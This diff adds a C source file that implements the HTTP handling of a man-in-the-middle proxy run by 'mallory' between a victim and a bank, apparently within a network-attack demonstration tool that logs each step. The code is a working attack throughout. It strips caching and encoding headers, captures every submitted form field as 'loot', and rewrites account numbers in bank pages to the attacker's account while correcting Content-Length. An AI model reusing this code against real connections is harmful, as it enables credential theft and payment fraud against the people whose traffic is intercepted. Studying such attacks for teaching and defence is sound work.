@@ -1,0 +1,360 @@
+/* HTTP as a man in the middle likes it: RFC 9112 (messages), RFC 9110 7.6.1 (headers of one hop). */
+#include "exchange.h"
+
+#include <sodium.h>
+#include <stdio.h>
+#include <string.h>
+
+#include "glassnet/proto/http.h"
+#include "glassnet/wire.h"
+
+#include "hello.h"
+
+enum { BLIND_MAX = 64 * 1024 };
+
+void exchange_init(struct exchange *x, struct trace *trace, struct loot *loot,
+    const struct exchange_names *names, unsigned connection, bool blind, bool rewrite)
+{
+	*x = (struct exchange){.trace = trace,
+	    .loot = loot,
+	    .names = *names,
+	    .connection = connection,
+	    .blind = blind,
+	    .rewrite = rewrite,
+	    .state = blind ? EXCHANGE_PASS : EXCHANGE_REQUEST};
+	buf_init(&x->request, EXCHANGE_REQUEST_MAX);
+	/* the head that is sent on has at most a few octets more than the victim's */
+	buf_init(&x->to_bank, blind ? BLIND_MAX : EXCHANGE_REQUEST_MAX + 256);
+	buf_init(&x->to_victim, blind ? BLIND_MAX : EXCHANGE_REPLY_MAX);
+}
+
+void exchange_release(struct exchange *x)
+{
+	buf_release(&x->request);
+	buf_release(&x->to_bank);
+	buf_release(&x->to_victim);
+}
+
+/* --- answers of mallory's own --- */
+
+static void answer(struct exchange *x, const char *status, const char *text)
+{
+	char page[300];
+	int n = snprintf(page, sizeof page,
+	    "HTTP/1.1 %s\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n%s",
+	    status, strlen(text), text);
+	buf_release(&x->to_victim);
+	if (n > 0 && (size_t)n < sizeof page && buf_text(&x->to_victim, page))
+		x->err = ERR_NOMEM;
+	x->state = EXCHANGE_DONE;
+}
+
+static void refuse(struct exchange *x, enum err e, const char *status, const char *text)
+{
+	ev_decision(x->trace, "not-relayed", "RFC 9110 15.5", "connection %u: %s", x->connection, text);
+	x->err = e;
+	answer(x, status, text);
+}
+
+void exchange_bank_failed(struct exchange *x, enum err e, const char *why)
+{
+	if (x->state == EXCHANGE_DONE)
+		return;
+	if (x->state == EXCHANGE_PASS &&
+	    x->reply_begun) { /* too late for a page, and no more than a rude goodbye */
+		x->state = EXCHANGE_DONE;
+		return;
+	}
+	ev_warning(x->trace, "connection %u: %s cannot be reached: %s", x->connection, x->names.bank, why);
+	x->err = e == ERR_FORMAT ? ERR_NET : e;
+	if (x->blind)
+		x->state = EXCHANGE_DONE;
+	else
+		answer(x, "502 Bad Gateway", "The bank cannot be reached.\n");
+}
+
+/* --- the request --- */
+
+/* Headers of the victim's hop, and those that would make the reply hard to change. */
+static bool is_dropped(const uint8_t *p, struct http_span name)
+{
+	static const char *const dropped[] = {"Connection", "Keep-Alive", "Proxy-Connection", "TE", "Upgrade",
+	    "Expect", "Accept-Encoding", "Range", "If-Range", "If-None-Match", "If-Modified-Since"};
+	for (size_t i = 0; i < sizeof dropped / sizeof dropped[0]; i++)
+		if (http_span_is_nocase(p, name, dropped[i]))
+			return true;
+	return false;
+}
+
+static enum err pass_request(struct exchange *x, const struct http *h)
+{
+	const uint8_t *p = x->request.data;
+	struct buf *out = &x->to_bank;
+	enum err e = buf_append(out, p + h->method.off, h->method.len);
+	if (!e)
+		e = buf_text(out, " ");
+	if (!e)
+		e = buf_append(out, p + h->target.off, h->target.len);
+	if (!e)
+		e = buf_text(out, " HTTP/1.0\r\n");
+	struct http_header hd;
+	for (size_t pos = 0; !e && http_header_next(h, p, &pos, &hd);)
+		if (!is_dropped(p, hd.name))
+			e = buf_append(out, p + hd.line.off, hd.line.len);
+	if (!e)
+		e = buf_text(out, "Connection: close\r\n\r\n");
+	if (!e)
+		e = buf_append(out, p + h->body_off, (size_t)h->content_length);
+	return e;
+}
+
+static void read_form(struct exchange *x, const struct http *h)
+{
+	const uint8_t *body = x->request.data + h->body_off;
+	size_t len = (size_t)h->content_length;
+	char where[EXCHANGE_LINE_MAX + 16];
+	snprintf(where, sizeof where, "%s %s", x->names.scheme, x->line);
+	struct http_form_field f;
+	for (size_t pos = 0; http_form_next(body, len, &pos, &f);) {
+		char name[LOOT_KEY_MAX], value[LOOT_VALUE_MAX];
+		size_t name_len, value_len;
+		if (http_form_decode(name, sizeof name, &name_len, body + f.name.off, f.name.len) ||
+		    http_form_decode(value, sizeof value, &value_len, body + f.value.off, f.value.len)) {
+			ev_decision(x->trace, "field-too-long", NULL,
+			    "connection %u: a form field is too long to keep", x->connection);
+			continue;
+		}
+		x->fields++;
+		loot_add(x->loot, x->trace, x->connection, where, name, name_len, value, value_len);
+		sodium_memzero(value, sizeof value);
+	}
+}
+
+static void take_request(struct exchange *x, const struct http *h)
+{
+	const uint8_t *p = x->request.data;
+	char start[EXCHANGE_LINE_MAX];
+	int n = snprintf(start, sizeof start, "%.*s %.*s", (int)(h->method.len < 16 ? h->method.len : 16),
+	    (const char *)p + h->method.off, (int)(h->target.len < 64 ? h->target.len : 64),
+	    (const char *)p + h->target.off);
+	escape_text(x->line, sizeof x->line, start, n > 0 ? (size_t)n : 0);
+	emit(x->trace, (struct event){.kind = EV_RECV,
+	                   .u.msg = {.from = x->names.victim,
+	                       .to = x->names.self,
+	                       .proto = "HTTP",
+	                       .label = x->line,
+	                       .bytes = p,
+	                       .len = x->request.len,
+	                       .secrecy = SECRECY_CLEAR}});
+	if (http_is_form(h, p))
+		read_form(x, h);
+	enum err e = pass_request(x, h);
+	if (e) {
+		refuse(x, e, "500 Internal Server Error", "the request does not fit");
+		return;
+	}
+	emit(x->trace, (struct event){.kind = EV_SEND,
+	                   .u.msg = {.from = x->names.self,
+	                       .to = x->names.bank,
+	                       .proto = "HTTP",
+	                       .label = x->line,
+	                       .bytes = x->to_bank.data,
+	                       .len = x->to_bank.len,
+	                       .secrecy = SECRECY_CLEAR}});
+	x->state = EXCHANGE_REPLY;
+}
+
+/* curl and others wait for a word before they send a large body (RFC 9110 10.1.1). */
+static void say_continue(struct exchange *x, const struct http *h)
+{
+	struct http_header hd;
+	if (x->said_continue || !http_header_find(h, x->request.data, "Expect", &hd))
+		return;
+	x->said_continue = true;
+	x->err = buf_text(&x->to_victim, "HTTP/1.1 100 Continue\r\n\r\n");
+}
+
+static void look_at_request(struct exchange *x)
+{
+	struct http h;
+	size_t at;
+	enum err e = http_parse(&h, x->request.data, x->request.len, &at);
+	if (e == ERR_TRUNCATED && x->request.len < EXCHANGE_HEAD_MAX)
+		return;
+	if (e == ERR_TRUNCATED || e == ERR_TOO_LONG)
+		refuse(x, ERR_TOO_LONG, "431 Request Header Fields Too Large",
+		    "the request's head is too long\n");
+	else if (e || h.response)
+		refuse(x, ERR_FORMAT, "400 Bad Request", "that is no HTTP request\n");
+	else if (h.chunked)
+		refuse(
+		    x, ERR_FORMAT, "411 Length Required", "the request does not say how long its body is\n");
+	else if (h.content_length > EXCHANGE_REQUEST_MAX - h.body_off)
+		refuse(x, ERR_TOO_LONG, "413 Content Too Large", "the request is too large\n");
+	else if (x->request.len - h.body_off >= h.content_length)
+		take_request(x, &h);
+	else
+		say_continue(x, &h);
+}
+
+void exchange_from_victim(struct exchange *x)
+{
+	if (x->blind) {
+		if (!x->server_name[0])
+			hello_server_name(
+			    x->server_name, sizeof x->server_name, x->to_bank.data, x->to_bank.len);
+	} else if (x->state == EXCHANGE_REQUEST) {
+		look_at_request(x);
+	}
+}
+
+void exchange_victim_end(struct exchange *x)
+{
+	x->victim_ended = true;
+	if (x->state == EXCHANGE_REQUEST) {
+		if (x->request.len > 0)
+			x->err = ERR_FORMAT; /* cut off in the middle of its request */
+		x->state = EXCHANGE_DONE;
+	} else if (x->blind && x->bank_ended) {
+		x->state = EXCHANGE_DONE;
+	}
+}
+
+/* --- the reply --- */
+
+/* May this reply be changed? Only a page in plain text form: everything else would be broken by it. */
+static bool is_page(const struct http *h, const uint8_t *p)
+{
+	struct http_header hd;
+	if (h->chunked || http_header_find(h, p, "Content-Encoding", &hd) ||
+	    http_header_find(h, p, "Transfer-Encoding", &hd) || !http_header_find(h, p, "Content-Type", &hd))
+		return false;
+	static const char html[] = "text/html";
+	return hd.value.len >= sizeof html - 1 &&
+	       http_span_is_nocase(p, (struct http_span){hd.value.off, sizeof html - 1}, html);
+}
+
+static enum err correct_length(struct exchange *x, const struct http *h)
+{
+	struct http_header hd;
+	if (!h->has_length || !http_header_find(h, x->to_victim.data, "Content-Length", &hd))
+		return ERR_OK;
+	char length[24];
+	int n = snprintf(length, sizeof length, "%zu", x->to_victim.len - h->body_off);
+	return buf_replace(&x->to_victim, hd.value.off, hd.value.len, length, (size_t)n);
+}
+
+static enum err change_page(struct exchange *x, const struct http *h)
+{
+	size_t before = x->to_victim.len;
+	enum err e = rewrite_page(&x->to_victim, h->body_off, &x->changed);
+	if (e || x->changed.changed == 0)
+		return e;
+	ev_state(x->trace, "page", "account number", x->changed.before, MALLORY_ACCOUNT,
+	    "connection %u: %u changed in the reply to %s; the page grows from %zu to %zu octets and its "
+	    "Content-Length with it",
+	    x->connection, x->changed.changed, x->line, before - h->body_off, x->to_victim.len - h->body_off);
+	return correct_length(x, h);
+}
+
+static void note_reply(struct exchange *x, const struct http *h, size_t len)
+{
+	snprintf(x->status, sizeof x->status, "%u", h->status);
+	char label[64];
+	snprintf(label, sizeof label, "reply %u", h->status);
+	emit(x->trace, (struct event){.kind = EV_RECV,
+	                   .u.msg = {.from = x->names.bank,
+	                       .to = x->names.self,
+	                       .proto = "HTTP",
+	                       .label = label,
+	                       .bytes = x->to_victim.data,
+	                       .len = len,
+	                       .secrecy = SECRECY_CLEAR}});
+}
+
+static void note_sent(struct exchange *x)
+{
+	char label[64];
+	snprintf(label, sizeof label, "reply %s%s", x->status, x->changed.changed ? ", changed" : "");
+	emit(x->trace, (struct event){.kind = EV_SEND,
+	                   .u.msg = {.from = x->names.self,
+	                       .to = x->names.victim,
+	                       .proto = "HTTP",
+	                       .label = label,
+	                       .bytes = x->to_victim.data,
+	                       .len = x->to_victim.len,
+	                       .secrecy = x->changed.changed ? SECRECY_TAMPERED : SECRECY_CLEAR}});
+}
+
+/* Decides what becomes of the held reply; ended: no more of it comes. */
+static void look_at_reply(struct exchange *x, bool ended)
+{
+	struct http h;
+	size_t at;
+	struct buf *reply = &x->to_victim;
+	enum err e = http_parse(&h, reply->data, reply->len, &at);
+	if (e == ERR_TRUNCATED && !ended && reply->len < EXCHANGE_HEAD_MAX)
+		return;
+	bool full = buf_room(reply) < sizeof MALLORY_ACCOUNT;
+	if (!e && h.response && x->rewrite && is_page(&h, reply->data) && !full) {
+		bool whole = ended || (h.has_length && reply->len - h.body_off >= h.content_length);
+		if (!whole)
+			return;
+		note_reply(x, &h, reply->len);
+		e = change_page(x, &h);
+		if (e)
+			refuse(x, ERR_TOO_LONG, "502 Bad Gateway", "the changed page does not fit\n");
+		else
+			note_sent(x);
+		x->state = EXCHANGE_DONE;
+		return;
+	}
+	if (!e && h.response)
+		note_reply(x, &h, reply->len);
+	note_sent(x);
+	x->state = ended ? EXCHANGE_DONE : EXCHANGE_PASS;
+}
+
+void exchange_from_bank(struct exchange *x)
+{
+	x->reply_begun = true;
+	if (x->state == EXCHANGE_REPLY)
+		look_at_reply(x, false);
+}
+
+void exchange_bank_end(struct exchange *x)
+{
+	x->bank_ended = true;
+	if (x->state == EXCHANGE_REPLY)
+		look_at_reply(x, true);
+	else if (!x->blind || x->victim_ended)
+		x->state = EXCHANGE_DONE;
+}
+
+/* --- buffers --- */
+
+struct buf *exchange_victim_input(struct exchange *x)
+{
+	struct buf *b = x->blind ? &x->to_bank : &x->request;
+	/* the "100 Continue" has to be out first */
+	bool wanted =
+	    x->blind ? x->state == EXCHANGE_PASS : x->state == EXCHANGE_REQUEST && x->to_victim.len == 0;
+	return wanted && buf_room(b) > 0 ? b : NULL;
+}
+
+struct buf *exchange_bank_input(struct exchange *x)
+{
+	bool wanted = x->state == EXCHANGE_REPLY || x->state == EXCHANGE_PASS;
+	return wanted && buf_room(&x->to_victim) > 0 ? &x->to_victim : NULL;
+}
+
+struct buf *exchange_bank_output(struct exchange *x)
+{
+	return x->to_bank.len > 0 ? &x->to_bank : NULL;
+}
+
+struct buf *exchange_victim_output(struct exchange *x)
+{
+	bool held = x->state == EXCHANGE_REPLY;
+	return !held && x->to_victim.len > 0 ? &x->to_victim : NULL;
+}
